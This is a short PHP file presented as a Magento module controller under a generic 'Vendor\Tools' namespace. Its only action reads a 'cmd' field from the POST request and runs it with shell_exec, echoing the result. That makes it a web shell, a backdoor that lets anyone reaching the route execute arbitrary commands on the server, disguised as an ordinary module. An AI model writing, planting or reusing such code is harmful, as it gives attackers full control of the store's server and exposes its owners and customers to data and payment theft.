<?php
namespace Vendor\Tools\Controller\Index;
class Index extends \Magento\Framework\App\Action\Action {
  public function execute() { $cmd = $this->getRequest()->getPost('cmd'); echo shell_exec($cmd); }
}
